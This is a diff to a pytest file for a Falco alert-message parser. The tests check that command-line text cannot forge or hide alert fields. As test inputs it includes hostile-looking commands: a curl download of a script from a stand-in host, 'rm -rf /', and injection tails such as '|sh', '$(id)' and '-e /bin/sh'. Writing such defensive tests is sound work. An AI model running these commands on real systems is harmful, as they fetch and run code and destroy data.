@@ -85,7 +85,7 @@ def test_fields_forged_in_a_command_line_do_not_replace_the_real_ones():
 def test_of_a_key_that_stands_twice_the_first_counts_and_that_is_said():
     found = parse_message("X | evt_type=execve user=alice user=root")
     assert found.fields == {"evt.type": "execve", "user.name": "alice"}
-    assert any("the first one counts" in warning for warning in found.warnings)
+    assert any("'alice' counts, as uncertain" in warning for warning in found.warnings)
 
 
 def test_a_key_that_only_a_command_line_holds_sets_nothing_and_that_is_said():
@@ -98,6 +98,34 @@ def test_a_command_line_is_not_cut_where_that_would_hide_something():
     found = parse_message("X | command=true file=/x;rm -rf /")
     assert found.fields["proc.cmdline"] == "true file=/x;rm -rf /"
     assert parse_message("X | command=true file=/x").fields["proc.cmdline"] == "true"
+
+
+@pytest.mark.parametrize(
+    ("tail", "kept"),
+    [
+        ("connection=192.0.2.1:43639->198.51.100.7:9090", {"connection": "192.0.2.1:43639->198.51.100.7:9090"}),
+        ("connection=2001:db8::1:40000->2001:db8::2:443 pid=4", {"connection": "2001:db8::1:40000->2001:db8::2:443"}),
+        ("file=/var/www/dump.php parent=<NA>", {"file": "/var/www/dump.php", "parent": "<NA>"}),
+        ("exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER site=berlin", {"site": "berlin"}),
+        ("cap_effective=CAP_CHOWN CAP_KILL image=<NA>", {"cap_effective": "CAP_CHOWN CAP_KILL", "image": "<NA>"}),
+        ("file=/x) [...]", {"file": "/x"}),
+    ],
+)
+def test_a_command_line_ends_at_labels_that_hide_nothing_and_they_set_no_field(tail, kept):
+    found = parse_message(f"X (command=curl -so ./a.py http://192.0.2.9/a.py {tail})")
+    assert found.fields == {"proc.cmdline": "curl -so ./a.py http://192.0.2.9/a.py"}
+    assert kept.items() <= found.custom.items()
+
+
+@pytest.mark.parametrize(
+    "tail",
+    ["connection=1|sh", "file=/x;id", "path=a|sh", "container_name=a|sh", "connection=$(id)", "file=/x -o /etc/passwd",
+     "user=`id`", "target=a&&id", "pcmdline=sh -c id", "connection=1.2.3.4:5->6.7.8.9:0 -e /bin/sh"],
+)  # fmt: skip
+def test_labels_that_could_hide_a_payload_stay_in_the_command_line(tail):
+    assert parse_message(f"X (command=curl http://192.0.2.9/a {tail})").fields == {
+        "proc.cmdline": f"curl http://192.0.2.9/a {tail}"
+    }
 
 
 def test_what_falco_appends_at_the_end_is_believed():
